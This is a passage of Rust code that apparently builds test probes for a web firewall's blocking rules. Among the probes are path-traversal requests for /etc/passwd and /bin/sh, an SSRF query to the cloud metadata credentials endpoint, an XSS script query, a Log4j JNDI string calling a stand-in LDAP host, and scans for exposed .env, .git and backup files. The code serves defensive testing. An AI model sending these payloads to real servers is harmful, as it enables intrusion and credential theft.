        ("/www.zip", "", false, Pass),
        ("/site.tar.gz", "", false, Pass),
        ("/db.sql", "", false, Pass),
        ("/dump.sql", "", false, Pass),
        ("/error.log", "", false, Managed(MB_RESTRICTED_EXT)),
        ("/debug.log", "", false, Managed(MB_RESTRICTED_EXT)),
        (
            "/storage/logs/laravel.log",
            "",
            false,
            Managed(MB_RESTRICTED_EXT),
        ),
        ("/php.ini", "", false, Managed(MB_RESTRICTED_EXT)),
        ("/web.config.bak", "", false, Managed(MB_RESTRICTED_EXT)),
        (
            "/index.php",
            "page=../../../../etc/passwd",
            false,
            Managed(MB_LFI_QUERY),
        ),
        (
            "/download",
            "file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
            false,
            Managed(MB_LFI_QUERY),
        ),
        (
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            "",
            true,
            Managed(MB_LFI_URI),
        ),
        (
            "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            "",
            false,
            Managed(MB_LFI_URI),
        ),
        (
            "/proxy",
            "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            false,
            Managed(MB_SSRF),
        ),
        (
            "/search",
            "q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
            false,
            Managed(MB_XSS_QUERY),
        ),
        (
            "/",
            "x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D",
            false,
            Managed(MB_LOG4J),
        ),
        ("/WEB-INF/web.xml", "", false, Managed(MB_EXPLOITABLE_PATHS)),
        (
            "/static/..;/WEB-INF/web.xml",
            "",
            false,
            Managed(MB_EXPLOITABLE_PATHS),
        ),
    ];
    let mut out: Vec<Probe> = fixed
        .iter()
        .map(|&(uri, args, post, block)| Probe {
            uri: uri.to_string(),
            args,
            post,
            block,
        })
        .collect();
    for prefix in [
        "api", "app", "admin", "backend", "laravel", "public", "core", "config", "v1", "old",
        "new", "dev", "staging", "site", "shop", "crm",
    ] {
        out.push(Probe {
            uri: format!("/{prefix}/.env"),
            args: "",
            post: false,
            block: Pass,
        });
        out.push(Probe {
            uri: format!("/{prefix}/.git/config"),
            args: "",
            post: false,
            block: Pass,
        });
        out.push(Probe {
            uri: format!("/{prefix}/config.php.bak"),
            args: "",
            post: false,
            block: Managed(MB_RESTRICTED_EXT),
        });
    }
    for plugin in [
        "contact-form-7",
        "elementor",
        "woocommerce",
        "wp-file-manager",
        "revslider",
        "duplicator",
        "wpdiscuz",
        "ultimate-member",
        "litespeed-cache",
        "really-simple-ssl",
    ] {
        out.push(Probe {
            uri: format!("/wp-content/plugins/{plugin}/readme.txt"),
            args: "",
            post: false,
            block: Cms,
        });
    }
    out
}
